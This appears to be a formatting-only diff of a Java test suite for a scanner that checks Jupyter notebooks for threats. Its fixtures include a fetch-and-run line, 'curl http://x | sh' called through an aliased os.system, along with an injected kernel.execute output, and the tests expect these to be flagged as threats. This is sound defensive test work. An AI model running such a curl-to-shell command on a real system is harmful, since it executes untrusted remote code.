@@ -47,7 +47,8 @@ class NotebookRulesTest {
 
     @Test
     void namesAreFollowedFromCellToCell() {
-        notebook("", "import os as harmless", "harmless.system('curl http://x | sh')").reports(CODE, Outcome.THREAT, "code.process");
+        notebook("", "import os as harmless", "harmless.system('curl http://x | sh')")
+                .reports(CODE, Outcome.THREAT, "code.process");
     }
 
     @ParameterizedTest
@@ -63,14 +64,17 @@ class NotebookRulesTest {
                 "application/javascript§Jupyter.notebook.kernel.execute('import os')§THREAT"
             })
     void outputsAreLookedAtAsPages(String mime, String html, Outcome outcome) {
-        String output = "{\"output_type\": \"display_data\", \"metadata\": {}, \"data\": {\"" + mime + "\": [\"" + html + "\"]}}";
+        String output = "{\"output_type\": \"display_data\", \"metadata\": {}, \"data\": {\"" + mime + "\": [\"" + html
+                + "\"]}}";
         assertThat(notebook(output, "1").report(FORMAT).outcome()).isEqualTo(outcome);
     }
 
     @Test
     void otherLanguagesAreNotCleared() {
-        inspecting(model().with("a.ipynb", "{\"cells\": [{\"cell_type\": \"code\", \"source\": \"system('id')\"}], \"metadata\":"
-                        + " {\"kernelspec\": {\"language\": \"R\"}}, \"nbformat\": 4}"))
+        inspecting(model().with(
+                                "a.ipynb",
+                                "{\"cells\": [{\"cell_type\": \"code\", \"source\": \"system('id')\"}], \"metadata\":"
+                                        + " {\"kernelspec\": {\"language\": \"R\"}}, \"nbformat\": 4}"))
                 .isInconclusive(CODE, "not examined: notebook");
     }
 
@@ -87,8 +91,12 @@ class NotebookRulesTest {
     private static InspectionAssert notebook(String output, String... cells) {
         List<String> json = new ArrayList<>();
         for (String cell : cells) {
-            String text = cell.replace('¶', '\n').replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n");
-            json.add("{\"cell_type\": \"code\", \"metadata\": {}, \"source\": [\"" + text + "\"], \"outputs\": [" + output + "]}");
+            String text = cell.replace('¶', '\n')
+                    .replace("\\", "\\\\")
+                    .replace("\"", "\\\"")
+                    .replace("\n", "\\n");
+            json.add("{\"cell_type\": \"code\", \"metadata\": {}, \"source\": [\"" + text + "\"], \"outputs\": ["
+                    + output + "]}");
         }
         return inspecting(model().with(
                         "a.ipynb",
